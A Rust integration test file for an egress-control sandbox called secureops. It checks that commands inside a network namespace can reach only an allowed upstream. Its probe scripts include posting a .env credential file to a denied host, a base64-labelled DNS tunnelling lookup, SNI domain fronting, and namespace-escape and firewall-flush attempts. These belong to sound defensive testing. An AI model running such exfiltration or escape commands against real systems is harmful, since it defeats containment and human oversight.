//! `secureops run` end to end, as root: a fake internet in a network
//! namespace the test creates (198.18.0.0/15 addresses), holding a TLS
//! upstream for an allowed name and a TCP+UDP canary for a denied one.
//! Inside the run, with every proxy variable unset, only the allowed
//! upstream is reachable and the canary counts zero.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::time::{Duration, Instant};

use support::netns::{FakeInternet, is_root, sh};

/// `secureops run -c CONFIG --audit LOG -- sh -c SCRIPT`, proxy variables
/// unset, from the fake internet's `work` folder (beside CONFIG): the run's
/// private /tmp hides the rest of the test's folder from CMD.
fn run(config: &Path, log: &Path, script: &str) -> Output {
    let mut c = Command::new(support::bin());
    c.current_dir(config.parent().unwrap().join("work"))
        .env("XDG_STATE_HOME", config.parent().unwrap().join("state"));
    c.arg("run")
        .arg("-c")
        .arg(config)
        .arg("--audit")
        .arg(log)
        .args(["--", "sh", "-c", script]);
    for v in support::PROXY_VARS {
        c.env_remove(v);
    }
    c.output().unwrap()
}

#[test]
fn only_the_allowed_upstream_is_reachable_from_inside_a_run() {
    let Some(net) = FakeInternet::start() else { return };
    let config = net.config();
    let log = net.dir.path().join("audit.jsonl");
    let ca = net.ca.display();
    let canary = &net.canary;
    let script = format!(
        r#"unset HTTPS_PROXY HTTP_PROXY ALL_PROXY https_proxy http_proxy all_proxy
echo "ALLOWED=$(curl -sS -m 10 --cacert {ca} https://allowed.test/)"
echo "NODE=$(NODE_EXTRA_CA_CERTS={ca} node -e 'fetch("https://allowed.test/").then(r=>r.text()).then(t=>process.stdout.write(t)).catch(e=>process.stdout.write("ERR "+e+" "+e.cause))')"
curl -sS -m 5 --noproxy '*' --cacert {ca} https://denied.test/ >/dev/null 2>&1 && echo DENIED_NAME=reached || echo DENIED_NAME=blocked
curl -sS -m 5 -k https://{canary}/ >/dev/null 2>&1 && echo CANARY_IP=reached || echo CANARY_IP=blocked
curl -sS -m 5 http://{canary}/ >/dev/null 2>&1 && echo CANARY_HTTP=reached || echo CANARY_HTTP=blocked
python3 -c 'import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"x", ("{canary}", 9999))' 2>/dev/null && echo UDP=sent || echo UDP=blocked
python3 -c 'import socket; socket.getaddrinfo("c2VjcmV0LWRhdGE.denied.test", 443)' 2>/dev/null && echo DNS=resolved || echo DNS=blocked
python3 -c '
import socket
q = bytes.fromhex("1234010000010000000000000664656e69656404746573740000010001")
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
s.sendto(q, ("{canary}", 53)); r = s.recv(512)
print("DNS_AT_CANARY_RCODE=%d" % (r[3] & 15))'
echo "FRONTED=$(curl -sS -m 10 --cacert {ca} --resolve allowed.test:443:{canary} https://allowed.test/)"
"#
    );
    let out = run(&config, &log, &script);
    let text = String::from_utf8_lossy(&out.stdout);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "run failed: {text}\n{err}");
    assert!(
        text.contains("ALLOWED=hello from the allowed upstream"),
        "{text}\n{err}"
    );
    assert!(text.contains("NODE=hello from the allowed upstream"), "{text}\n{err}");
    for line in [
        "DENIED_NAME=blocked",
        "CANARY_IP=blocked",
        "CANARY_HTTP=blocked",
        "UDP=blocked",
        "DNS=blocked",
        "DNS_AT_CANARY_RCODE=3",
    ] {
        assert!(text.contains(line), "missing {line}: {text}\n{err}");
    }
    // An SNI naming the allowed host while dialling the canary's IP ends at
    // the real allowed upstream: the proxy resolves the name itself.
    assert!(
        text.contains("FRONTED=hello from the allowed upstream"),
        "{text}\n{err}"
    );
    assert_eq!(net.canary(), (0, 0, 0), "the canary saw traffic");
    // Every decision of the run is attributed to the client process.
    let entries: Vec<_> = support::read_entries(&log)
        .into_iter()
        .filter(|e| e["kind"] == "egress" || e["kind"] == "dns")
        .collect();
    assert!(entries.len() >= 8, "{entries:?}");
    for e in &entries {
        let exe = e["exe"].as_str().unwrap_or_default();
        let name = exe.rsplit('/').next().unwrap_or_default();
        assert!(e["pid"].as_u64().is_some(), "no pid: {e}");
        assert!(
            name == "curl" || name == "node" || name.starts_with("python3"),
            "exe {exe:?} in {e}"
        );
    }
    let vias: Vec<_> = entries
        .iter()
        .filter(|e| e["kind"] == "egress")
        .map(|e| e["via"].as_str().unwrap_or(""))
        .collect();
    assert!(vias.contains(&"sni") && vias.contains(&"ip"), "{vias:?}");
    let verify = support::secureops(&["audit", "verify", log.to_str().unwrap()], net.dir.path());
    assert!(verify.status.success(), "{}", String::from_utf8_lossy(&verify.stdout));
}

#[test]
fn the_commands_connections_to_the_guard_are_not_paced() {
    // The namespace's default congestion control, which the command's own
    // sockets get: every one of them ends at the guard on this machine.
    // (A new namespace starts from the host's; where that is BBR, this
    // fails without the switch.)
    let Some(net) = FakeInternet::start() else { return };
    let log = net.dir.path().join("audit.jsonl");
    let out = run(&net.config(), &log, "cat /proc/sys/net/ipv4/tcp_congestion_control");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let inside = String::from_utf8_lossy(&out.stdout).trim().to_owned();
    assert!(
        !inside.is_empty() && !inside.starts_with("bbr"),
        "the command's namespace uses {inside:?}"
    );
}

#[test]
fn run_exits_with_the_command_status_and_leaves_nothing_behind() {
    let Some(net) = FakeInternet::start() else { return };
    let config = net.config();
    let log = net.dir.path().join("audit.jsonl");
    let out = run(&config, &log, "exit 7");
    assert_eq!(out.status.code(), Some(7), "{}", String::from_utf8_lossy(&out.stderr));
    let out = run(&config, &log, "kill -TERM $$");
    assert_eq!(out.status.code(), Some(128 + 15));
    // Nothing of the run remains on the host: no nftables table, no helper.
    let tables = Command::new("nft").args(["list", "tables"]).output().unwrap();
    assert!(!String::from_utf8_lossy(&tables.stdout).contains("secureops"));
    let ps = Command::new("ps").args(["-eo", "args"]).output().unwrap();
    assert!(
        !String::from_utf8_lossy(&ps.stdout)
            .lines()
            .any(|l| l.contains("__ns-child") && (l.contains("exit 7") || l.contains("kill -TERM $$")))
    );
    // Two runs at once do not collide.
    let a = {
        let (c, l) = (config.clone(), net.dir.path().join("a.jsonl"));
        std::thread::spawn(move || run(&c, &l, "sleep 1; exit 3").status.code())
    };
    let b = run(&config, &net.dir.path().join("b.jsonl"), "sleep 1; exit 4")
        .status
        .code();
    assert_eq!((a.join().unwrap(), b), (Some(3), Some(4)));
}

#[test]
fn the_command_cannot_leave_its_namespace_or_change_its_rules() {
    let Some(net) = FakeInternet::start() else { return };
    let config = net.config();
    let log = net.dir.path().join("audit.jsonl");
    let script = "nsenter --net=/proc/1/ns/net true 2>/dev/null && echo NSENTER=escaped || echo NSENTER=contained; \
                  nft flush ruleset 2>/dev/null && echo NFT=changed || echo NFT=refused; \
                  ip route del default 2>/dev/null && echo ROUTE=changed || echo ROUTE=refused; \
                  grep -E '^CapEff' /proc/self/status";
    let out = run(&config, &log, script);
    let text = String::from_utf8_lossy(&out.stdout);
    for want in [
        "NSENTER=contained",
        "NFT=refused",
        "ROUTE=refused",
        "CapEff:\t0000000000000000",
    ] {
        assert!(text.contains(want), "missing {want}: {text}");
    }
}

#[test]
fn redirected_plain_http_is_decided_request_by_request() {
    let Some(net) = FakeInternet::start() else { return };
    let config = net.config();
    let log = net.dir.path().join("audit.jsonl");
    // One keep-alive connection to the allowed server's address: the first
    // request names the allowed host, the second another one.
    let script = r#"python3 -c '
import socket
s = socket.create_connection(("allowed.test", 80), timeout=5)
def response():
    data = b""
    while b"\r\n\r\n" not in data:
        chunk = s.recv(65536)
        if not chunk:
            return data
        data += chunk
    head, body = data.split(b"\r\n\r\n", 1)
    length = [int(l.split(b":")[1]) for l in head.split(b"\r\n") if l.lower().startswith(b"content-length:")]
    while length and len(body) < length[0]:
        chunk = s.recv(65536)
        if not chunk:
            break
        body += chunk
    return head
s.sendall(b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
print("FIRST=" + response().split(b"\r\n")[0].decode())
try:
    s.sendall(b"GET / HTTP/1.1\r\nHost: denied.test\r\n\r\n")
    print("SECOND=" + (response().split(b"\r\n")[0].decode() or "closed"))
except OSError as e:
    print("SECOND=reset")
'"#;
    let out = run(&config, &log, script);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("FIRST=HTTP/1.1 200 OK"),
        "{text}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        text.contains("SECOND=reset") || text.contains("SECOND=closed"),
        "{text}"
    );
    let entries: Vec<_> = support::read_entries(&log)
        .into_iter()
        .filter(|e| e["kind"] == "egress")
        .collect();
    let hosts: Vec<_> = entries
        .iter()
        .map(|e| {
            (
                e["host"].as_str().unwrap_or(""),
                e["decision"].as_str().unwrap_or(""),
                e["via"].as_str().unwrap_or(""),
            )
        })
        .collect();
    assert!(hosts.contains(&("allowed.test", "allow", "host-header")), "{hosts:?}");
    assert!(hosts.contains(&("denied.test", "deny", "host-header")), "{hosts:?}");
}

#[test]
fn tier_reports_kernel_enforcement_as_root() {
    if !is_root() {
        eprintln!("SKIP: tier is kernel-enforced only where namespaces can be created (tested as root)");
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let out = support::secureops(&["tier"], dir.path());
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(text.split_whitespace().next(), Some("kernel-enforced"), "{text}");
    let out = support::secureops(&["tier", "--json"], dir.path());
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["tier"], "kernel-enforced");
}

#[test]
fn an_ordinary_user_is_confined_through_a_user_namespace() {
    let Some(net) = FakeInternet::start() else { return };
    let probe = Command::new("setpriv")
        .args([
            "--reuid=65534",
            "--regid=65534",
            "--clear-groups",
            "unshare",
            "--user",
            "--map-root-user",
            "--net",
            "true",
        ])
        .status();
    if !probe.is_ok_and(|s| s.success()) {
        eprintln!("SKIP: unprivileged user namespaces are disabled on this machine");
        return;
    }
    // A folder the unprivileged user can write.
    let work = tempfile::tempdir().unwrap();
    std::fs::set_permissions(work.path(), std::os::unix::fs::PermissionsExt::from_mode(0o777)).unwrap();
    let config = work.path().join("c.toml");
    std::fs::copy(net.config(), &config).unwrap();
    std::fs::set_permissions(&config, std::os::unix::fs::PermissionsExt::from_mode(0o644)).unwrap();
    let script = format!(
        "curl -sS -m 5 --cacert /dev/null -k https://allowed.test/ ; \
         curl -sS -m 5 --noproxy '*' -k https://{canary}/ >/dev/null 2>&1 && echo CANARY=reached || echo CANARY=blocked",
        canary = net.canary
    );
    let out = Command::new("setpriv")
        .args([
            "--reuid=65534",
            "--regid=65534",
            "--clear-groups",
            "env",
            "HOME=/nonexistent",
        ])
        .arg(format!("XDG_STATE_HOME={}/state", work.path().display()))
        .arg(support::bin())
        .args(["run", "-c"])
        .arg(&config)
        .args(["--", "sh", "-c", &script])
        .current_dir(work.path())
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{text}\n{}", String::from_utf8_lossy(&out.stderr));
    assert!(text.contains("hello from the allowed upstream"), "{text}");
    assert!(text.contains("CANARY=blocked"), "{text}");
    assert_eq!(net.canary(), (0, 0, 0));
}

#[test]
fn signals_are_forwarded_sudo_users_keep_their_identity_and_a_killed_run_takes_its_command_along() {
    let Some(net) = FakeInternet::start() else { return };
    let config = net.config();
    let dir = net.dir.path();
    // SIGTERM to `secureops run` reaches CMD, whose handler decides the status.
    let mut c = Command::new(support::bin());
    c.env("XDG_STATE_HOME", dir.join("state"))
        .arg("run")
        .arg("-c")
        .arg(&config)
        .arg("--audit")
        .arg(dir.join("t.jsonl"));
    c.args(["--", "sh", "-c", "trap 'exit 9' TERM; echo ready; sleep 30 & wait"])
        .stdout(Stdio::piped());
    let mut child = c.spawn().unwrap();
    wait_for_line(&mut child, "ready");
    assert!(sh(&["kill", "-TERM", &child.id().to_string()]));
    assert_eq!(child.wait().unwrap().code(), Some(9));
    // Started through sudo: CMD acts as the invoking user (what it creates
    // is theirs), not as root.
    let shared = tempfile::tempdir().unwrap();
    std::fs::set_permissions(shared.path(), std::os::unix::fs::PermissionsExt::from_mode(0o777)).unwrap();
    let made = shared.path().join("made-by-cmd");
    let out = Command::new(support::bin())
        .env("XDG_STATE_HOME", dir.join("state"))
        .arg("run")
        .arg("-c")
        .arg(&config)
        .arg("--audit")
        .arg(dir.join("s.jsonl"))
        .args(["--", "sh", "-c", &format!("touch {}", made.display())])
        .current_dir(shared.path())
        .env("SUDO_UID", "65534")
        .env("SUDO_GID", "65534")
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(
        std::os::unix::fs::MetadataExt::uid(&std::fs::metadata(&made).unwrap()),
        65534
    );
    // SIGKILL of the supervisor: the command dies with it.
    let mut c = Command::new(support::bin());
    c.env("XDG_STATE_HOME", dir.join("state"))
        .arg("run")
        .arg("-c")
        .arg(&config)
        .arg("--audit")
        .arg(dir.join("k.jsonl"));
    // CMD's pid inside is its namespace's; find it on the host by its
    // unique arguments.
    c.args(["--", "sh", "-c", "echo ready; exec sleep 3131"]);
    let mut child = c.stdout(Stdio::piped()).spawn().unwrap();
    wait_for_line(&mut child, "ready");
    let running = || support::pids_of("sleep\u{0}3131").len();
    let deadline = Instant::now() + Duration::from_secs(5);
    while running() == 0 {
        assert!(Instant::now() < deadline, "CMD is not running");
        std::thread::sleep(Duration::from_millis(20));
    }
    child.kill().unwrap();
    child.wait().unwrap();
    let deadline = Instant::now() + Duration::from_secs(5);
    while running() > 0 {
        assert!(Instant::now() < deadline, "the command outlived a killed supervisor");
        std::thread::sleep(Duration::from_millis(50));
    }
}

fn read_line(child: &mut Child) -> String {
    use std::io::BufRead;
    let mut line = String::new();
    std::io::BufReader::new(child.stdout.as_mut().unwrap())
        .read_line(&mut line)
        .unwrap();
    line.trim().to_owned()
}

fn wait_for_line(child: &mut Child, want: &str) {
    assert_eq!(read_line(child), want);
}

/// `name` on this test's `PATH`.
fn which(name: &str) -> PathBuf {
    std::env::var_os("PATH")
        .and_then(|path| {
            std::env::split_paths(&path)
                .map(|dir| dir.join(name))
                .find(|p| p.is_file())
        })
        .unwrap_or_else(|| panic!("{name} not found on PATH"))
}

#[test]
fn a_weak_run_leaves_the_command_its_open_file_limit() {
    // With nothing on PATH, `unshare` cannot be found: confinement fails
    // and --weak runs the command proxy-only. The guard raises its own soft
    // open-file limit to the hard one; the command must keep the one it was
    // given (programs using select() break past 1023). Shell builtins only:
    // the command's own limit, then its parent's (the guard's), which the
    // guard raises right after starting the command: polled, bounded.
    let dir = tempfile::tempdir().unwrap();
    let script = r#"ulimit -n; echo "$HTTPS_PROXY"
        i=0
        while [ $i -lt 20000 ]; do
          while read -r line; do case $line in "Max open files"*) l=$line;; esac; done < /proc/$PPID/limits
          set -- $l
          [ "$4" != 256 ] && break
          i=$((i + 1))
        done
        echo "$l"
        exit 5"#;
    let out = Command::new(which("prlimit"))
        .arg("--nofile=256:")
        .arg("--")
        .arg(support::bin())
        .env("XDG_STATE_HOME", dir.path().join("state"))
        .args(["run", "--weak", "--audit"])
        .arg(dir.path().join("audit.jsonl"))
        .args(["--", "/bin/sh", "-c", script])
        .env("PATH", dir.path())
        .current_dir(dir.path())
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(5), "{stdout}{stderr}");
    assert!(stderr.contains("running proxy-only (--weak)"), "{stderr}");
    let lines: Vec<&str> = stdout.lines().collect();
    assert_eq!(lines.len(), 3, "{stdout}{stderr}");
    assert_eq!(lines[0], "256", "the command's soft limit changed");
    assert!(lines[1].starts_with("http://127.0.0.1:"), "{stdout}");
    // The guard itself did raise its soft limit to the hard one.
    let guard: Vec<&str> = lines[2].split_whitespace().skip(3).take(2).collect();
    assert_eq!(guard.len(), 2, "{}", lines[2]);
    assert_ne!(guard[0], "256", "{}", lines[2]);
    assert_eq!(guard[0], guard[1], "guard's soft limit not raised: {}", lines[2]);
}

#[test]
fn a_credential_read_inside_the_run_still_taints() {
    // The run's mount namespace has its own copies of the host's mounts;
    // the credential watch marks whole file systems, so a read of `.env`
    // in the working folder still taints the reader inside the run.
    let Some(net) = FakeInternet::start() else { return };
    let config = net.config();
    // The canary's name is allowed: only the taint can refuse it.
    let mut text = std::fs::read_to_string(&config)
        .unwrap()
        .replace("[\"allowed.test\"]", "[\"allowed.test\", \"denied.test\"]");
    text.push_str("[context]\ncredential_paths = [\"**/.env\"]\ntaint_window_ms = 30000\n");
    std::fs::write(&config, text).unwrap();
    std::fs::write(net.work.join(".env"), "TOKEN=secret\n").unwrap();
    let log = net.dir.path().join("audit.jsonl");
    let ca = net.ca.display();
    let script = format!(
        "echo \"BEFORE=$(curl -sS -m 10 --cacert {ca} https://allowed.test/)\"; \
         curl -sS -m 10 -k -d @.env https://denied.test/ >/dev/null 2>&1 && echo AFTER=reached || echo AFTER=refused"
    );
    let out = run(&config, &log, &script);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        stdout.contains("BEFORE=hello from the allowed upstream"),
        "{stdout}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(stdout.contains("AFTER=refused"), "{stdout}");
    assert_eq!(net.canary(), (0, 0, 0), "the canary saw traffic");
    let tainted = support::read_entries(&log)
        .into_iter()
        .any(|e| e["decision"] == "deny" && e["reason"].as_str().unwrap_or("").contains(".env"));
    assert!(tainted, "no taint refusal in the log");
}
